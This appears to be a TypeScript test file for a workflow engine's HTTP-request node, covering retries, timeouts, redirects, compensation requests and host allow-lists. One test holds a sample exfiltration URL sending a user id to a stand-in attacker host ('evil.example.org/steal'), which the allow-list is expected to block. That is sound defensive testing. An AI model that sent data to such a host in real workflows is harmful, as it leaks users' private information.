import { expect } from 'chai';
import nock from 'nock';
import type { CompensationContext } from '../../src/engine/node-type.js';
import { createHttpClient } from '../../src/connectors/http-client.js';
import { createHttpRequestNode, type HttpRequestConfig } from '../../src/nodes/integration/http-request-node.js';
import { baseContext, expectKind, fakeServices, harness } from '../nodes/support/node-harness.js';

const api = 'https://api.example.com';
const bridgeAllowList = ['api.example.com', '*.partner.example'];
/** Third-party hosts resolve to a public address (nock answers for them). */
const publicResolver = async () => ['93.184.215.14'];

function setup(config: HttpRequestConfig, options: { input?: Record<string, unknown>; flow?: Record<string, unknown> } = {}) {
  const sleeps: number[] = [];
  const node = createHttpRequestNode({ sleep: async (ms) => void sleeps.push(ms) });
  const services = { ...fakeServices(), http: createHttpClient({ allowedHosts: bridgeAllowList, resolve: publicResolver }) };
  const run = harness(node, config, { services, ...options });
  const compensate = (data: unknown) => {
    const ctx: CompensationContext = {
      context: baseContext,
      services,
      executionId: 'exec-1',
      node: { id: 'step1', type: 'http-request', config: config as unknown as Record<string, unknown> },
    };
    return node.compensate!(ctx, data);
  };
  return { run, sleeps, compensate };
}

describe('http-request node', () => {
  before(() => nock.disableNetConnect());
  afterEach(() => {
    const pending = nock.pendingMocks();
    nock.cleanAll();
    expect(pending, 'unused interceptors').to.deep.equal([]);
  });
  after(() => nock.enableNetConnect());

  it('sends the evaluated request and maps the JSON response to outputs', async () => {
    nock(api, { reqheaders: { authorization: 'Bearer t-1', 'x-realm': 'demo' } })
      .get('/users/jane')
      .query({ full: 'true' })
      .reply(200, { company: { name: 'Acme' }, seats: 3 }, { 'content-type': 'application/json; charset=utf-8', 'x-request-id': 'r-9' });
    const { run } = setup(
      {
        method: 'GET',
        url: '"https://api.example.com/users/" & context.user.username & "?full=true"',
        headers: { authorization: '"Bearer " & flow.token', 'x-realm': 'context.realm' },
        responseMapping: { company: 'response.body.company.name', seats: 'response.body.seats', requestId: 'response.headers."x-request-id"' },
      },
      { flow: { token: 't-1' } },
    );
    const next = expectKind(await run.init(), 'next');
    expect(next.port, JSON.stringify(next.outputs)).to.equal('success');
    expect(next.outputs).to.deep.equal({ status: 200, company: 'Acme', seats: 3, requestId: 'r-9' });
    expect(next.compensation).to.equal(undefined);
  });

  it('sends the body as JSON', async () => {
    nock(api, { reqheaders: { 'content-type': 'application/json' } })
      .post('/accounts', { email: 'jane.doe@example.com', seats: 2 })
      .reply(201, 'created', { 'content-type': 'text/plain' });
    const { run } = setup(
      {
        method: 'POST',
        url: '"https://api.example.com/accounts"',
        body: '{"email": context.user.email, "seats": input.seats}',
        responseMapping: { text: 'response.body' },
      },
      { input: { seats: 2 } },
    );
    expect(expectKind(await run.init(), 'next').outputs).to.deep.equal({ status: 201, text: 'created' });
  });

  it('fails with http_timeout when the API does not answer in time', async () => {
    nock(api).get('/slow').delay(300).reply(200, {});
    const { run } = setup({ method: 'GET', url: '"https://api.example.com/slow"', timeoutMs: 50 });
    expect(expectKind(await run.init(), 'next')).to.deep.equal({ kind: 'next', port: 'failure', outputs: { error: 'http_timeout' } });
  });

  it('retries 503 and 429 with the server-given Retry-After (capped at 5 s), else exponential backoff', async () => {
    nock(api)
      .get('/flaky')
      .reply(503, '', { 'retry-after': '1' })
      .get('/flaky')
      .reply(429, '', { 'retry-after': '3600' })
      .get('/flaky')
      .reply(500)
      .get('/flaky')
      .reply(200, { ok: true }, { 'content-type': 'application/json' });
    const { run, sleeps } = setup({ method: 'GET', url: '"https://api.example.com/flaky"', retries: 3, responseMapping: { ok: 'response.body.ok' } });
    expect(expectKind(await run.init(), 'next').outputs).to.deep.equal({ status: 200, ok: true });
    expect(sleeps).to.deep.equal([1000, 5000, 800]);
  });

  it('retries network errors and gives up after the configured retries', async () => {
    nock(api).get('/down').times(3).replyWithError('connection reset');
    const { run, sleeps } = setup({ method: 'GET', url: '"https://api.example.com/down"', retries: 2 });
    expect(expectKind(await run.init(), 'next').outputs).to.deep.equal({ error: 'http_network_error' });
    expect(sleeps).to.deep.equal([200, 400]);
  });

  it('does not retry a POST unless it is declared idempotent', async () => {
    nock(api).post('/orders').reply(503);
    const { run, sleeps } = setup({ method: 'POST', url: '"https://api.example.com/orders"', retries: 3 });
    expect(expectKind(await run.init(), 'next').outputs).to.deep.equal({ status: 503, error: 'http_status' });
    expect(sleeps).to.deep.equal([]);

    nock(api).post('/orders').reply(503).post('/orders').reply(204);
    const idempotent = setup({ method: 'POST', url: '"https://api.example.com/orders"', retries: 3, idempotent: true });
    expect(expectKind(await idempotent.run.init(), 'next').outputs).to.deep.equal({ status: 204 });
  });

  it("refuses a host outside the bridge's allow-list without sending anything", async () => {
    const { run } = setup({ method: 'GET', url: '"https://evil.example.org/steal?u=" & context.user.id' });
    expect(expectKind(await run.init(), 'next').outputs).to.deep.equal({ error: 'http_host_not_allowed' });
  });

  it("refuses a host outside the node's own allow-list", async () => {
    const { run } = setup({ method: 'GET', url: '"https://crm.partner.example/x"', allowedHosts: ['api.example.com'] });
    expect(expectKind(await run.init(), 'next').outputs).to.deep.equal({ error: 'http_host_not_allowed' });

    nock('https://crm.partner.example').get('/x').reply(200);
    const allowed = setup({ method: 'GET', url: '"https://crm.partner.example/x"', allowedHosts: ['*.partner.example'] });
    expect(expectKind(await allowed.run.init(), 'next').port).to.equal('success');
  });

  it('does not follow redirects: a 3xx is a response (failure unless listed as success)', async () => {
    nock(api).get('/moved').times(2).reply(302, '', { location: 'https://evil.example.org/' });
    const { run } = setup({ method: 'GET', url: '"https://api.example.com/moved"' });
    expect(expectKind(await run.init(), 'next').outputs).to.deep.equal({ status: 302, error: 'http_status' });

    const listed = setup({
      method: 'GET',
      url: '"https://api.example.com/moved"',
      successStatuses: [302],
      responseMapping: { location: 'response.headers.location' },
    });
    expect(expectKind(await listed.run.init(), 'next').outputs).to.deep.equal({ status: 302, location: 'https://evil.example.org/' });
  });

  it('fails with http_status for a status outside successStatuses, and http_bad_response for broken JSON', async () => {
    nock(api).get('/missing').reply(404, { error: 'nope' });
    const { run } = setup({ method: 'GET', url: '"https://api.example.com/missing"' });
    expect(expectKind(await run.init(), 'next').outputs).to.deep.equal({ status: 404, error: 'http_status' });

    nock(api).get('/broken').reply(200, '{"half":', { 'content-type': 'application/json' });
    const broken = setup({ method: 'GET', url: '"https://api.example.com/broken"' });
    expect(expectKind(await broken.run.init(), 'next').outputs).to.deep.equal({ error: 'http_bad_response' });
  });

  it('registers the evaluated compensation on success and sends it from compensate()', async () => {
    nock(api).post('/subscriptions').reply(201, { id: 'sub-7' }, { 'content-type': 'application/json' });
    const config: HttpRequestConfig = {
      method: 'POST',
      url: '"https://api.example.com/subscriptions"',
      body: '{"user": context.user.id}',
      compensate: { method: 'DELETE', url: '"https://api.example.com/subscriptions/" & response.body.id', headers: { 'x-reason': '"rollback"' } },
    };
    const { run, compensate } = setup(config);
    const next = expectKind(await run.init(), 'next');
    expect(next.compensation).to.deep.equal({
      method: 'DELETE',
      url: 'https://api.example.com/subscriptions/sub-7',
      headers: { 'x-reason': 'rollback' },
      timeoutMs: 5000,
    });

    nock(api, { reqheaders: { 'x-reason': 'rollback' } })
      .delete('/subscriptions/sub-7')
      .reply(204);
    await compensate(next.compensation);

    nock(api).delete('/subscriptions/sub-7').reply(409);
    let error: unknown;
    await compensate(next.compensation).catch((caught) => (error = caught));
    expect(error).to.have.property('code', 'http_status');
  });

  it('checks expressions, host patterns and reserved output names', () => {
    const node = createHttpRequestNode();
    expect(node.check!({ method: 'GET', url: '"https://api.example.com"', responseMapping: { ok: 'response.status = 200' } })).to.deep.equal([]);
    const issues = node.check!({
      method: 'GET',
      url: '"https://api.example.com/" & (',
      allowedHosts: ['https://api.example.com/'],
      responseMapping: { status: 'response.status' },
      compensate: { method: 'DELETE', url: 'response.(' },
    });
    expect(issues.map((issue) => issue.field)).to.deep.equal(['url', 'compensate.url', 'responseMapping.status', 'allowedHosts']);
    expect(node.outputs({ method: 'GET', url: '""', responseMapping: { a: 'response.body' } })).to.have.keys('a', 'status', 'error');
  });
});
